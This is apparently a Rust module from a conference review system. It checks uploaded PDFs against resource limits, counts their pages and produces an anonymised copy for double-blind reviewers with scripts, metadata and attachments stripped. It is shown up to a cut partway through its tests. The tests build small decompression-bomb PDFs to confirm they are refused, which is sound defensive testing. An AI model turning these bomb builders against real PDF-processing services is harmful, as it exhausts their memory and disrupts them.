//! PDF checks: real PDF structure within resource limits, the real page count, author metadata
//! (for double-blind warnings), and the anonymised copy reviewers get under double-blind review.

use lopdf::{Dictionary, Document, Object, ObjectId};
use std::collections::HashSet;
use std::io::Read;
use std::path::Path;

/// What the checks found in a PDF.
#[derive(Debug, Clone, PartialEq)]
pub struct PdfInfo {
    /// Number of pages, counted in the page tree (not its `/Count`).
    pub pages: u32,
    /// `/Author` from the document information, if any.
    pub author: Option<String>,
    /// `/Title`, if any.
    pub title: Option<String>,
}

/// How much work a PDF may cause. Checked at upload and again when the reviewers' copy is
/// made, so a file that passes one passes the other.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Bytes all streams together may decode to (compressed content, object streams).
    pub max_expanded_bytes: u64,
    /// Indirect objects in the file.
    pub max_objects: usize,
    /// Levels of the page tree.
    pub max_tree_depth: usize,
}

impl Default for Limits {
    fn default() -> Limits {
        Limits {
            max_expanded_bytes: 256 * 1024 * 1024,
            max_objects: 200_000,
            max_tree_depth: 64,
        }
    }
}

/// Why a file is not an acceptable PDF.
#[derive(Debug, Clone, PartialEq, thiserror::Error)]
pub enum PdfError {
    /// The bytes do not start like a PDF.
    #[error("not a PDF file")]
    NotPdf,
    /// It starts like a PDF but does not parse.
    #[error("the PDF is damaged: {0}")]
    Damaged(String),
    /// It is encrypted, so reviewers could not open it.
    #[error("the PDF is password-protected")]
    Encrypted,
    /// Its compressed content decodes to more than the limit (a decompression bomb).
    #[error("the PDF's content expands to more than {limit} bytes")]
    TooExpanded {
        /// The limit in bytes.
        limit: u64,
    },
    /// Too many objects, or a page tree too deep, to process.
    #[error("the PDF is too complex: {0}")]
    TooComplex(String),
    /// The reviewers' anonymised copy cannot be made from it.
    #[error("no anonymised copy can be made: {0}")]
    NotAnonymisable(String),
}

fn damaged(e: lopdf::Error) -> PdfError {
    match e {
        lopdf::Error::Decompress(lopdf::DecompressError::MemoryLimitExceeded { .. }) => PdfError::Damaged("a stream is too large".into()),
        other => PdfError::Damaged(other.to_string()),
    }
}

/// Counts what a zlib (or, failing that, raw deflate) stream at the start of `data` decodes
/// to, without keeping the output; stops as soon as the count passes `budget`.
fn inflated_len(data: &[u8], budget: u64) -> u64 {
    inflate_count(data, budget).0
}

/// Like [`inflated_len`], also returning how many input bytes the decoder read.
fn inflate_count(data: &[u8], budget: u64) -> (u64, u64) {
    fn count<R: Read>(mut reader: R, budget: u64) -> u64 {
        let mut buf = [0u8; 64 * 1024];
        let mut n = 0u64;
        loop {
            match reader.read(&mut buf) {
                Ok(0) | Err(_) => return n,
                Ok(k) => {
                    n += k as u64;
                    if n > budget {
                        return n;
                    }
                }
            }
        }
    }
    let mut zlib = flate2::read::ZlibDecoder::new(data);
    let n = count(&mut zlib, budget);
    if n > 0 {
        return (n, zlib.total_in());
    }
    // Readers fall back to raw deflate when the zlib wrapper is wrong.
    let mut raw = flate2::read::DeflateDecoder::new(data);
    let n = count(&mut raw, budget);
    (n, raw.total_in().max(zlib.total_in()))
}

/// A first, cheap look at the raw bytes before the file is parsed: every `stream` keyword is
/// followed by compressed data that decodes to a size, counted without keeping the output
/// (the decoder finds the end of the data itself, so neither `/Length` nor a misplaced
/// `endstream` can hide a stream). Object streams, which the parser expands in memory, are
/// counted here before they are expanded.
fn prescan(bytes: &[u8], limits: &Limits) -> Result<(), PdfError> {
    let (mut total, mut read) = (0u64, 0u64);
    let mut at = 0;
    while let Some(i) = find(&bytes[at..], b"stream") {
        let kw = at + i;
        at = kw + 6;
        if kw >= 3 && &bytes[kw - 3..kw] == b"end" {
            continue;
        }
        let start = match &bytes[at..] {
            [b'\r', b'\n', ..] => at + 2,
            [b'\n' | b'\r', ..] => at + 1,
            _ => continue,
        };
        let (out, input) = inflate_count(&bytes[start..], limits.max_expanded_bytes - total);
        total += out;
        // Data that decodes to nothing still costs reading: a file naming the same long run
        // of empty blocks after many `stream` keywords must not keep the check busy.
        read += input;
        if total > limits.max_expanded_bytes || read > limits.max_expanded_bytes.saturating_add(bytes.len() as u64) {
            return Err(PdfError::TooExpanded {
                limit: limits.max_expanded_bytes,
            });
        }
    }
    Ok(())
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// Filters whose output size this module can measure.
const DECODABLE: &[&[u8]] = &[
    b"FlateDecode",
    b"LZWDecode",
    b"ASCII85Decode",
    b"ASCIIHexDecode",
    b"RunLengthDecode",
    b"BrotliDecode",
];

/// What a stream decodes to through the filters this module can decode (image codecs such as
/// DCT are left to the reader and counted as their input), within `budget`.
fn decoded_len(stream: &lopdf::Stream, budget: u64) -> Result<u64, PdfError> {
    let filters: Vec<Vec<u8>> = stream
        .filters()
        .map(|f| f.into_iter().map(<[u8]>::to_vec).collect())
        .unwrap_or_default();
    let known = filters.iter().take_while(|f| DECODABLE.contains(&f.as_slice())).count();
    let raw = stream.content.len() as u64;
    let over = |n: u64| n > budget;
    let n = match (known, filters.first().map(Vec::as_slice)) {
        (0, _) => raw,
        (1, Some(b"FlateDecode")) => inflated_len(&stream.content, budget),
        _ => {
            let mut dict = stream.dict.clone();
            let prefix: Vec<Object> = filters[..known].iter().map(|f| Object::Name(f.clone())).collect();
            dict.set("Filter", Object::Array(prefix));
            let partial = lopdf::Stream::new(dict, stream.content.clone());
            let limit = usize::try_from(budget).unwrap_or(usize::MAX);
            match partial.decompressed_content_with_limit(limit) {
                Ok(out) => out.len() as u64,
                Err(lopdf::Error::Decompress(lopdf::DecompressError::MemoryLimitExceeded { .. })) => budget.saturating_add(1),
                // Corrupt data: a reader fails on it too; what it occupies is its input.
                Err(_) => raw,
            }
        }
    };
    if over(n) { Err(PdfError::TooExpanded { limit: 0 }) } else { Ok(n) }
}

/// Reads and parses a PDF within `limits`: the header, the raw pre-scan, the parse (each
/// stream bounded), the object count, and every stream's decoded size.
fn load(path: &Path, limits: &Limits) -> Result<Document, PdfError> {
    let bytes = std::fs::read(path).map_err(|e| PdfError::Damaged(e.to_string()))?;
    load_bytes(&bytes, limits)
}

fn load_bytes(bytes: &[u8], limits: &Limits) -> Result<Document, PdfError> {
    // The header may follow a little junk (allowed by readers), but must be near the start.
    let head = &bytes[..bytes.len().min(1024)];
    if find(head, b"%PDF-").is_none() {
        return Err(PdfError::NotPdf);
    }
    prescan(bytes, limits)?;
    let options = lopdf::LoadOptions {
        max_decompressed_size: Some(usize::try_from(limits.max_expanded_bytes).unwrap_or(usize::MAX)),
        ..Default::default()
    };
    let doc = Document::load_mem_with_options(bytes, options).map_err(|e| match e {
        lopdf::Error::Decompress(lopdf::DecompressError::MemoryLimitExceeded { .. }) => PdfError::TooExpanded {
            limit: limits.max_expanded_bytes,
        },
        other => damaged(other),
    })?;
    if doc.is_encrypted() || doc.was_encrypted() || doc.trailer.has(b"Encrypt") {
        return Err(PdfError::Encrypted);
    }
    if doc.objects.len() > limits.max_objects {
        return Err(PdfError::TooComplex(format!("more than {} objects", limits.max_objects)));
    }
    let mut total = 0u64;
    for object in doc.objects.values() {
        if let Object::Stream(stream) = object {
            let budget = limits.max_expanded_bytes - total;
            total += decoded_len(stream, budget).map_err(|_| PdfError::TooExpanded {
                limit: limits.max_expanded_bytes,
            })?;
        }
    }
    Ok(doc)
}

/// The page tree as a reader walks it.
struct PageTree {
    /// The pages (leaves), in order.
    pages: Vec<ObjectId>,
    /// Every node, pages included.
    nodes: HashSet<ObjectId>,
}

/// Walks the page tree from the catalog and counts its real leaves; `/Count`, which a file
/// can set to anything, is never read. A node met twice (a loop, or a page listed twice), a
/// tree deeper than the limit or more nodes than objects allowed make the file unacceptable.
fn page_tree(doc: &Document, limits: &Limits) -> Result<PageTree, PdfError> {
    let catalog = doc.catalog().map_err(damaged)?;
    let root = catalog
        .get(b"Pages")
        .and_then(Object::as_reference)
        .map_err(|_| PdfError::Damaged("no page tree".into()))?;
    let mut tree = PageTree {
        pages: Vec::new(),
        nodes: HashSet::new(),
    };
    let mut stack = vec![(root, 0usize)];
    while let Some((id, depth)) = stack.pop() {
        if depth > limits.max_tree_depth {
            return Err(PdfError::TooComplex(format!("page tree deeper than {}", limits.max_tree_depth)));
        }
        if !tree.nodes.insert(id) {
            return Err(PdfError::Damaged("the page tree refers to a node twice".into()));
        }
        if tree.nodes.len() > limits.max_objects {
            return Err(PdfError::TooComplex("page tree too large".into()));
        }
        let node = doc
            .get_dictionary(id)
            .map_err(|_| PdfError::Damaged("a page tree node is missing".into()))?;
        let kids = node
            .get(b"Kids")
            .and_then(|k| doc.dereference(k))
            .ok()
            .and_then(|(_, k)| k.as_array().ok());
        match kids {
            Some(kids) if !node.has_type(b"Page") => {
                // Reversed, so that pages come off the stack in document order.
                for kid in kids.iter().rev() {
                    if let Ok(kid) = kid.as_reference() {
                        stack.push((kid, depth + 1));
                    }
                }
            }
            _ => tree.pages.push(id),
        }
    }
    Ok(tree)
}

fn info_text(doc: &Document, key: &[u8]) -> Option<String> {
    let (_, info) = doc.trailer.get(b"Info").and_then(|i| doc.dereference(i)).ok()?;
    let value = info.as_dict().ok()?.get(key).ok()?;
    let text = lopdf::decode_text_string(value).ok()?;
    Some(text.trim().to_string()).filter(|v| !v.is_empty())
}

fn info_of(doc: &Document, pages: usize) -> Result<PdfInfo, PdfError> {
    if pages == 0 {
        return Err(PdfError::Damaged("no pages".into()));
    }
    Ok(PdfInfo {
        pages: u32::try_from(pages).unwrap_or(u32::MAX),
        author: info_text(doc, b"Author"),
        title: info_text(doc, b"Title"),
    })
}

/// Checks the file at `path` within `limits` and reads its page count and metadata.
pub fn inspect(path: &Path, limits: &Limits) -> Result<PdfInfo, PdfError> {
    let doc = load(path, limits)?;
    let tree = page_tree(&doc, limits)?;
    info_of(&doc, tree.pages.len())
}

/// Reads a PDF within `limits` (as at upload) with its pages in reading order, for code that
/// copies pages into another document (the proceedings).
pub fn load_pages(path: &Path, limits: &Limits) -> Result<(Document, Vec<ObjectId>), PdfError> {
    let doc = load(path, limits)?;
    let tree = page_tree(&doc, limits)?;
    info_of(&doc, tree.pages.len())?;
    Ok((doc, tree.pages))
}

/// [`inspect`] for a final version, with the text of its first page (empty when it has no
/// extractable text), where a paper still marked "Anonymous" shows it.
pub fn inspect_with_first_page(path: &Path, limits: &Limits) -> Result<(PdfInfo, String), PdfError> {
    let doc = load(path, limits)?;
    let tree = page_tree(&doc, limits)?;
    let info = info_of(&doc, tree.pages.len())?;
    let text = doc.extract_text(&[1]).unwrap_or_default();
    Ok((info, text))
}

/// The upload check: [`inspect`], and the reviewers' anonymised copy must be possible (it is
/// made here and thrown away), so a file that cannot be anonymised is refused at once rather
/// than failing when reviewers need it.
pub fn check_upload(path: &Path, limits: &Limits) -> Result<PdfInfo, PdfError> {
    let doc = load(path, limits)?;
    let tree = page_tree(&doc, limits)?;
    let info = info_of(&doc, tree.pages.len())?;
    anonymise(doc, tree, limits)?;
    Ok(info)
}

/// `/Author` from the document information, read lazily (for the authors' warning on their
/// submission page; the file passed [`check_upload`] when it was stored).
pub fn metadata_author(path: &Path) -> Option<String> {
    let meta = Document::load_metadata(path).ok()?;
    meta.author.map(|v| v.trim().to_string()).filter(|v| !v.is_empty())
}

/// A copy of the PDF at `path` without what could name its authors or run code, for reviewers
/// under double-blind review. The file is read within `limits` first.
///
/// Removed:
/// - the document information dictionary (`/Info`: Author, Creator, Producer, Title, Subject,
///   Keywords, dates) and the object it points to, unless that object is also part of the
///   document (then only those entries are removed from it);
/// - every `/Metadata` entry, on the catalog or on any other dictionary or stream, and every
///   XMP stream, recognised by `/Type /Metadata`, by `/Subtype /XML` or by content that
///   starts with `<?xpacket` or `<x:xmpmeta`, including ones left in the file unreferenced;
/// - every `/PieceInfo` (application private data) and the information dictionary (`/I`) of
///   article threads;
/// - of every annotation other than a form field's widget: its author (`/T`), text
///   (`/Contents`, `/RC`) and subject (`/Subj`); the annotations themselves (highlights,
///   links, notes' icons) and their appearance stay, so reviewers still see what is marked;
/// - scripts and actions that run something: `/OpenAction` and any other action that is
///   JavaScript or Launch (with actions chained after them), `/JS` entries, every `/AA`
///   (additional actions), the `/JavaScript` name tree and XFA forms;
/// - embedded files: the `/EmbeddedFiles` name tree, `/AF` associated files and the file of
///   file-attachment annotations.
///
/// Page content is untouched and the trailer keeps `/Root` and `/ID`. Nothing reachable from
/// the catalog other than the above is dropped, and the copy must have as many pages as the
/// original. The copy is written afresh, without object streams and with a plain
/// cross-reference table, so no earlier revision or compressed object stream of the original
/// survives in it. The text of the pages is not examined.
pub fn anonymised(path: &Path, limits: &Limits) -> Result<Vec<u8>, PdfError> {
    let doc = load(path, limits)?;
    let tree = page_tree(&doc, limits)?;
    info_of(&doc, tree.pages.len())?;
    anonymise(doc, tree, limits)
}

/// Entries of the document information dictionary.
const INFO_KEYS: &[&[u8]] = &[
    b"Author",
    b"Creator",
    b"Producer",
    b"Title",
    b"Subject",
    b"Keywords",
    b"CreationDate",
    b"ModDate",
    b"Trapped",
];

/// An action that runs code: JavaScript, or launching an application.
fn is_script_action(dict: &Dictionary) -> bool {
    dict.has(b"JS")
        || dict
            .get(b"S")
            .and_then(Object::as_name)
            .is_ok_and(|s| s == b"JavaScript" || s == b"Launch")
}

/// Whether a stream is XMP metadata: by its dictionary, or by how its (decoded) content starts.
fn is_xmp(stream: &lopdf::Stream) -> bool {
    if stream.dict.has_type(b"Metadata") || stream.dict.get(b"Subtype").and_then(Object::as_name).is_ok_and(|s| s == b"XML") {
        return true;
    }
    let filters = stream.filters().unwrap_or_default();
    let mut head = Vec::with_capacity(256);
    match filters.as_slice() {
        [] => head.extend_from_slice(&stream.content[..stream.content.len().min(256)]),
        [f] if *f == b"FlateDecode" => {
            let _ = flate2::read::ZlibDecoder::new(stream.content.as_slice())
                .take(256)
                .read_to_end(&mut head);
        }
        _ => return false,
    }
    let text = head.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&head);
    let start = text.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(text.len());
    let text = &text[start..];
    text.starts_with(b"<?xpacket") || text.starts_with(b"<x:xmpmeta")
}

/// Every object reachable from the catalog.
fn reachable_from_root(doc: &Document) -> HashSet<ObjectId> {
    fn refs(object: &Object, out: &mut Vec<ObjectId>) {
        match object {
            Object::Reference(id) => out.push(*id),
            Object::Array(list) => list.iter().for_each(|o| refs(o, out)),
            Object::Dictionary(d) => d.iter().for_each(|(_, o)| refs(o, out)),
            Object::Stream(s) => s.dict.iter().for_each(|(_, o)| refs(o, out)),
            _ => {}
        }
    }
    let mut seen = HashSet::new();
    let mut todo = Vec::new();
    if let Ok(root) = doc.trailer.get(b"Root") {
        refs(root, &mut todo);
    }
    while let Some(id) = todo.pop() {
        if seen.insert(id)
            && let Some(object) = doc.objects.get(&id)
        {
            refs(object, &mut todo);
        }
    }
    seen
}

fn anonymise(mut doc: Document, tree: PageTree, limits: &Limits) -> Result<Vec<u8>, PdfError> {
    use lopdf::xref::XrefType;

    let reachable = reachable_from_root(&doc);
    // Objects that go whole: XMP streams and script actions (never a page tree node or the
    // catalog), and the information dictionary unless the document itself uses it.
    let catalog_id = doc.trailer.get(b"Root").and_then(Object::as_reference).ok();
    let mut dropped: HashSet<ObjectId> = doc
        .objects
        .iter()
        .filter(|(id, _)| !tree.nodes.contains(id) && Some(**id) != catalog_id)
        .filter(|(_, object)| match object {
            Object::Stream(s) => is_xmp(s),
            Object::Dictionary(d) => is_script_action(d),
            _ => false,
        })
        .map(|(&id, _)| id)
        .collect();
    if let Ok(id) = doc.trailer.get(b"Info").and_then(Object::as_reference) {
        if reachable.contains(&id) {
            if let Ok(dict) = doc.get_object_mut(id).and_then(Object::as_dict_mut) {
                for key in INFO_KEYS {
                    dict.remove(key);
                }
            }
        } else {
            dropped.insert(id);
        }
    }
    // Annotations named by the pages, which may lack `/Type /Annot`.
    let mut annots: HashSet<ObjectId> = HashSet::new();
    for page_id in &tree.pages {
        let Ok(page) = doc.get_dictionary(*page_id) else { continue };
        let Ok((_, Object::Array(list))) = page.get(b"Annots").and_then(|a| doc.dereference(a)) else {
            continue;
        };
        annots.extend(list.iter().filter_map(|a| a.as_reference().ok()));
    }
    // The catalog's name dictionary (often indirect): no document scripts, no attachments.
    let names_id = doc.catalog().ok().and_then(|c| c.get(b"Names").and_then(Object::as_reference).ok());
    if let Some(id) = names_id
        && let Ok(names) = doc.get_object_mut(id).and_then(Object::as_dict_mut)
    {
        names.remove(b"JavaScript");
        names.remove(b"EmbeddedFiles");
    }

    // A new trailer: only what a reader needs (the writer adds `/Size`).
    let mut trailer = Dictionary::new();
    for key in [&b"Root"[..], b"ID"] {
        if let Ok(value) = doc.trailer.get(key) {
            trailer.set(key, value.clone());
        }
    }
    doc.trailer = trailer;
    for id in &dropped {
        doc.objects.remove(id);
    }

    fn is_dropped(object: &Object, dropped: &HashSet<ObjectId>) -> bool {
        match object {
            Object::Reference(id) => dropped.contains(id),
            Object::Dictionary(d) => is_script_action(d),
            _ => false,
        }
    }
    fn is_annotation(dict: &Dictionary) -> bool {
        const SUBTYPES: &[&[u8]] = &[
            b"Text",
            b"Link",
            b"FreeText",
            b"Line",
            b"Square",
            b"Circle",
            b"Polygon",
            b"PolyLine",
            b"Highlight",
            b"Underline",
            b"Squiggly",
            b"StrikeOut",
            b"Stamp",
            b"Caret",
            b"Ink",
            b"Popup",
            b"FileAttachment",
            b"Sound",
            b"Movie",
            b"Screen",
            b"PrinterMark",
            b"TrapNet",
            b"Watermark",
            b"3D",
            b"Redact",
            b"Projection",
            b"RichMedia",
        ];
        dict.has_type(b"Annot")
            || (dict.has(b"Rect") && dict.get(b"Subtype").and_then(Object::as_name).is_ok_and(|s| SUBTYPES.contains(&s)))
    }
    fn scrub_dict(dict: &mut Dictionary, annotation: bool, dropped: &HashSet<ObjectId>) {
        for key in [&b"Metadata"[..], b"PieceInfo", b"AA", b"JS", b"AF", b"XFA"] {
            dict.remove(key);
        }
        let stale: Vec<Vec<u8>> = dict
            .iter()
            .filter(|(_, v)| is_dropped(v, dropped))
            .map(|(k, _)| k.clone())
            .collect();
        for key in stale {
            dict.remove(&key);
        }
        // A widget's `/T` is its form field's name, not an author.
        let widget = dict.has(b"FT") || dict.get(b"Subtype").and_then(Object::as_name).is_ok_and(|s| s == b"Widget");
        if (annotation || is_annotation(dict)) && !widget {
            for key in [&b"T"[..], b"Contents", b"RC", b"Subj"] {
                dict.remove(key);
            }
            if dict.get(b"Subtype").and_then(Object::as_name).is_ok_and(|s| s == b"FileAttachment") {
                dict.remove(b"FS");
            }
        }
        if dict.has_type(b"Thread") {
            dict.remove(b"I");
        }
        for (key, value) in dict.iter_mut() {
            match value {
                Object::Array(list) if key == b"Annots" => {
                    for item in list {
                        scrub(item, true, dropped);
                    }
                }
                _ => scrub(value, false, dropped),
            }
        }
    }
    fn scrub(object: &mut Object, annotation: bool, dropped: &HashSet<ObjectId>) {
        match object {
            Object::Dictionary(dict) => scrub_dict(dict, annotation, dropped),
            Object::Stream(stream) => scrub_dict(&mut stream.dict, false, dropped),
            Object::Array(list) => {
                for item in list {
                    if is_dropped(item, dropped) {
                        *item = Object::Null;
                    } else {
                        scrub(item, false, dropped);
                    }
                }
            }
            _ => {}
        }
    }
    for (id, object) in doc.objects.iter_mut() {
        scrub(object, annots.contains(id), &dropped);
    }
    // Whatever is now unreachable from the trailer: values of the removed entries, object
    // and cross-reference streams of the original, orphaned XMP.
    doc.prune_objects();

    doc.reference_table.cross_reference_type = XrefType::CrossReferenceTable;
    let mut out = Vec::new();
    doc.save_to(&mut out).map_err(|e| PdfError::NotAnonymisable(e.to_string()))?;

    // The copy must read like the original: within the limits, with the same pages.
    let copy = load_bytes(&out, limits).map_err(|e| PdfError::NotAnonymisable(e.to_string()))?;
    let pages = page_tree(&copy, limits)
        .map_err(|e| PdfError::NotAnonymisable(e.to_string()))?
        .pages
        .len();
    if pages != tree.pages.len() {
        return Err(PdfError::NotAnonymisable(format!(
            "the copy has {pages} pages instead of {}",
            tree.pages.len()
        )));
    }
    Ok(out)
}

/// A small valid PDF with `pages` pages and optional `/Author`, for demo data and tests.
pub fn sample(pages: u32, title: &str, author: Option<&str>) -> Vec<u8> {
    use lopdf::content::{Content, Operation};
    use lopdf::{Document, Object, Stream, dictionary};
    let mut doc = Document::with_version("1.5");
    let pages_id = doc.new_object_id();
    let font_id = doc.add_object(dictionary! { "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica" });
    let resources_id = doc.add_object(dictionary! { "Font" => dictionary! { "F1" => font_id } });
    let mut kids = Vec::new();
    for i in 1..=pages.max(1) {
        let content = Content {
            operations: vec![
                Operation::new("BT", vec![]),
                Operation::new("Tf", vec!["F1".into(), 14.into()]),
                Operation::new("Td", vec![72.into(), 760.into()]),
                Operation::new(
                    "Tj",
                    vec![Object::string_literal(format!(
                        "{} - page {i}",
                        title.chars().filter(|c| c.is_ascii()).collect::<String>()
                    ))],
                ),
                Operation::new("ET", vec![]),
            ],
        };
        let content_id = doc.add_object(Stream::new(dictionary! {}, content.encode().expect("encodes")));
        let page_id = doc.add_object(dictionary! { "Type" => "Page", "Parent" => pages_id, "Contents" => content_id });
        kids.push(page_id.into());
    }
    let count = kids.len() as i64;
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => kids, "Count" => count, "Resources" => resources_id,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        }),
    );
    let catalog_id = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    doc.trailer.set("Root", catalog_id);
    let mut info = dictionary! { "Title" => Object::string_literal(title.chars().filter(|c| c.is_ascii()).collect::<String>()) };
    if let Some(a) = author {
        info.set("Author", Object::string_literal(a));
    }
    let info_id = doc.add_object(info);
    doc.trailer.set("Info", info_id);
    let mut out = Vec::new();
    doc.save_to(&mut out).expect("PDF serialises");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const L: Limits = Limits {
        max_expanded_bytes: 256 * 1024 * 1024,
        max_objects: 200_000,
        max_tree_depth: 64,
    };

    fn write(bytes: &[u8]) -> (tempfile::TempDir, std::path::PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("f.pdf");
        std::fs::write(&p, bytes).unwrap();
        (dir, p)
    }

    #[test]
    fn reads_pages_and_author() {
        let (_d, p) = write(&sample(3, "A study", Some("Li Hua")));
        let info = inspect(&p, &L).unwrap();
        assert_eq!(info.pages, 3);
        assert_eq!(info.author.as_deref(), Some("Li Hua"));
        let (_d, p) = write(&sample(1, "Anonymous", None));
        assert_eq!(inspect(&p, &L).unwrap().author, None);
    }

    fn contains(haystack: &[u8], needle: &str) -> bool {
        haystack.windows(needle.len()).any(|w| w == needle.as_bytes())
    }

    /// `sample()` with "Li Hua" also in XMP (catalog and font), in page annotations and in
    /// page-piece data; a form field on page 2 keeps its name. Saved with object streams if
    /// `modern`.
    fn authored(modern: bool) -> Vec<u8> {
        use lopdf::{Document, Object, Stream, dictionary};
        let mut doc = Document::load_mem(&sample(2, "A study", Some("Li Hua"))).unwrap();
        let xmp = |id: &str| {
            format!(
                r#"<?xpacket begin="" id="{id}"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Li Hua</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>"#
            )
            .into_bytes()
        };
        let meta = |bytes| Stream::new(dictionary! { "Type" => "Metadata", "Subtype" => "XML" }, bytes).with_compression(false);
        let catalog_meta = doc.add_object(meta(xmp("catalog")));
        doc.catalog_mut().unwrap().set("Metadata", catalog_meta);
        // Without /Type /Metadata, so only the /Metadata entry points to it.
        let font_meta = doc.add_object(Stream::new(dictionary! { "Subtype" => "XML" }, xmp("font")).with_compression(false));
        let font_id = *doc
            .objects
            .iter()
            .find(|(_, o)| o.as_dict().is_ok_and(|d| d.has_type(b"Font")))
            .unwrap()
            .0;
        doc.get_dictionary_mut(font_id).unwrap().set("Metadata", font_meta);
        // An XMP stream that nothing references any more.
        doc.add_object(meta(xmp("orphan")));

        let rect = || vec![100.into(), 100.into(), 120.into(), 120.into()];
        let note = doc.add_object(dictionary! {
            "Type" => "Annot", "Subtype" => "Text", "Rect" => rect(),
            "Contents" => Object::string_literal("See our earlier paper"), "T" => Object::string_literal("Li Hua"),
        });
        let pages = doc.get_pages();
        let page1 = doc.get_dictionary_mut(pages[&1]).unwrap();
        page1.set(
            "Annots",
            vec![
                note.into(),
                // Direct and without /Type, as some producers write them.
                Object::Dictionary(dictionary! { "Subtype" => "Highlight", "Rect" => rect(), "T" => Object::string_literal("Li Hua") }),
            ],
        );
        page1.set(
            "PieceInfo",
            dictionary! { "Editor" => dictionary! { "Private" => Object::string_literal("Li Hua") } },
        );
        let page2 = doc.get_dictionary_mut(pages[&2]).unwrap();
        page2.set(
            "Annots",
            vec![Object::Dictionary(dictionary! {
                "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx", "Rect" => rect(), "T" => Object::string_literal("score_field"),
            })],
        );
        let mut out = Vec::new();
        if modern {
            doc.save_modern(&mut out).unwrap();
        } else {
            doc.save_to(&mut out).unwrap();
        }
        out
    }

    #[test]
    fn anonymised_copy_names_no_author() {
        use lopdf::Document;
        for modern in [false, true] {
            let original = authored(modern);
            if !modern {
                assert!(
                    contains(&original, "Li Hua") && contains(&original, "dc:creator"),
                    "the fixture names the author"
                );
            }
            let (_d, p) = write(&original);
            assert_eq!(inspect(&p, &L).unwrap().author.as_deref(), Some("Li Hua"));

            let copy = anonymised(&p, &L).unwrap();
            let (_d2, q) = write(&copy);
            let info = inspect(&q, &L).unwrap();
            assert_eq!(info.pages, 2);
            assert_eq!(info.author, None);
            assert_eq!(info.title, None);

            // Nowhere in the bytes, nor in any stream once decompressed.
            assert!(!contains(&copy, "Li Hua"), "modern={modern}: {}", String::from_utf8_lossy(&copy));
            assert!(!contains(&copy, "xmpmeta") && !contains(&copy, "/ObjStm") && !contains(&copy, "/Info"));
            let mut reread = Document::load_mem(&copy).unwrap();
            reread.decompress();
            let mut plain = Vec::new();
            reread.save_to(&mut plain).unwrap();
            assert!(!contains(&plain, "Li Hua") && !contains(&plain, "dc:creator"));

            // The pages, their content and the annotations themselves are kept.
            let before = Document::load_mem(&original).unwrap();
            let (old, new) = (before.get_pages(), reread.get_pages());
            assert_eq!(old.len(), new.len());
            for (n, id) in &old {
                assert_eq!(before.get_page_content(*id), reread.get_page_content(new[n]), "page {n}");
            }
            assert_eq!(reread.get_page_annotations(new[&1]).unwrap().len(), 2);
            assert!(!contains(&plain, "See our earlier paper"), "annotation text is removed");
            assert!(contains(&plain, "score_field"), "a form field keeps its name");
            assert!(reread.catalog().unwrap().get(b"Metadata").is_err());
        }
    }

    /// `sample()` changed by `f` and saved again (plain cross-reference table).
    fn altered(pages: u32, author: Option<&str>, f: impl FnOnce(&mut lopdf::Document)) -> Vec<u8> {
        let mut doc = lopdf::Document::load_mem(&sample(pages, "A study", author)).unwrap();
        f(&mut doc);
        let mut out = Vec::new();
        doc.save_to(&mut out).unwrap();
        out
    }

    /// `n` zero bytes, zlib-compressed without ever holding them.
    fn zeros_deflated(n: usize) -> Vec<u8> {
        use std::io::Write;
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        let chunk = vec![0u8; 64 * 1024];
        let mut left = n;
        while left > 0 {
            let k = left.min(chunk.len());
            z.write_all(&chunk[..k]).unwrap();
            left -= k;
        }
        z.finish().unwrap()
    }

    /// A PDF with `streams` FlateDecode streams of `each` zero bytes hung off the catalog.
    fn bomb(streams: usize, each: usize) -> Vec<u8> {
        use lopdf::{Stream, dictionary};
        let packed = zeros_deflated(each);
        altered(1, None, |doc| {
            let ids: Vec<Object> = (0..streams)
                .map(|_| {
                    doc.add_object(Stream::new(dictionary! { "Filter" => "FlateDecode" }, packed.clone()))
                        .into()
                })
                .collect();
            doc.catalog_mut().unwrap().set("Bomb", ids);
        })
    }

    const SMALL: Limits = Limits {
        max_expanded_bytes: 1024 * 1024,
        max_objects: 200_000,
        max_tree_depth: 64,
    };

    #[test]
    fn a_decompression_bomb_is_refused_before_it_is_expanded() {
        // Six streams of 512 KiB each: under the limit one by one, three times over it together.
        let file = bomb(6, 512 * 1024);
        assert!(file.len() < 20_000, "the bomb is small: {}", file.len());
        let (_d, p) = write(&file);
        let refused = PdfError::TooExpanded {
            limit: SMALL.max_expanded_bytes,
        };
        assert_eq!(inspect(&p, &SMALL), Err(refused.clone()));
        assert_eq!(check_upload(&p, &SMALL), Err(refused.clone()));
        assert_eq!(anonymised(&p, &SMALL), Err(refused));
        // The pre-scan alone catches it, whatever `/Length` or the parser says.
        assert!(prescan(&file, &SMALL).is_err());
        // Within a larger limit the same file is an ordinary one-page PDF.
        assert_eq!(inspect(&p, &L).unwrap().pages, 1);
        assert!(check_upload(&p, &L).is_ok());
    }

    #[test]
    fn streams_the_pre_scan_cannot_read_are_measured_after_parsing() {
        use lopdf::{Stream, dictionary};
        // RunLength: each two bytes say "128 zeros", 64 times larger decoded than stored.
        let packed: Vec<u8> = std::iter::repeat_n([0x81u8, 0x00], 20_000).flatten().collect();
        let file = altered(1, None, |doc| {
            let id = doc.add_object(Stream::new(dictionary! { "Filter" => "RunLengthDecode" }, packed));
            doc.catalog_mut().unwrap().set("Bomb", id);
        });
        let (_d, p) = write(&file);
        assert!(prescan(&file, &SMALL).is_ok());
        assert!(matches!(inspect(&p, &SMALL), Err(PdfError::TooExpanded { .. })));
        assert!(inspect(&p, &L).is_ok());
    }

